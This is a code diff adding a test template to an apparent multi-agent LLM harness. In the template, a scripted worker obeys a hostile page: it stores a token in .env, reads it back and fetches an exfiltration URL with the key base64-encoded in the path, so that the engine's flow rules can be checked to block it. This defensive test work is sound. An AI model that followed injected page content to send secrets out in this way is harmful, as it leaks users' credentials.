@@ -1,6 +1,7 @@
 package harness
 
 import (
+	"encoding/base64"
 	"fmt"
 
 	"github.com/aetherium-engine/aetherium/llm"
@@ -133,5 +134,33 @@ func Crew(turns int) templates.Template {
 	}
 	t := team("drill-crew", sup, nodes, map[string][]script.Turn{"a": worker("a"), "b": worker("b")})
 	t.Supervisor.MCPServers = []string{"orchestration", "planning"}
+	return t
+}
+
+// Tainted is a team whose worker obeys a hostile page (issue 49's flow rules):
+// it writes a key into .env, reads the page at pageURL, reads .env, takes slow
+// turns (the window a drill kills a worker in), then fetches exfilURL with the
+// key base64url-encoded in the path. The flow rules must refuse that fetch
+// (layer flow) whichever worker process runs the turn: the session's label and
+// fingerprints come from its saved history. Its allowlist names only 127.0.0.1,
+// where the caller serves both URLs.
+func Tainted(pageURL, exfilURL, key string, slowTurns int) templates.Template {
+	sup := []script.Turn{
+		{Calls: []script.Call{{Tool: "delegate", Args: map[string]any{"agent": "r", "task": "read the page"}}}},
+		{Calls: []script.Call{{Tool: "reply", Args: map[string]any{"message": "done"}}}},
+	}
+	w := []script.Turn{
+		{Calls: []script.Call{{Tool: "write_file", Args: map[string]any{"path": ".env", "content": "PARTNER_TOKEN=" + key + "\n"}}}},
+		{Calls: []script.Call{{Tool: "web_fetch", Args: map[string]any{"url": pageURL}}}},
+		{Calls: []script.Call{{Tool: "read_file", Args: map[string]any{"path": ".env"}}}},
+	}
+	for range slowTurns {
+		w = append(w, script.Turn{Calls: []script.Call{{Tool: "todo", Args: map[string]any{"action": "read"}}}})
+	}
+	w = append(w, script.Turn{Calls: []script.Call{{Tool: "web_fetch", Args: map[string]any{"url": exfilURL + "/" + base64.RawURLEncoding.EncodeToString([]byte(key))}}}},
+		script.Turn{Say: "r done"})
+	t := team("drill-tainted", sup, []templates.Node{{Name: "r", Prompt: "Read.", MCPServers: []string{"workspace", "research", "planning"}}},
+		map[string][]script.Turn{"r": w})
+	t.AllowedDomains = []string{"127.0.0.1"}
 	return t
 }
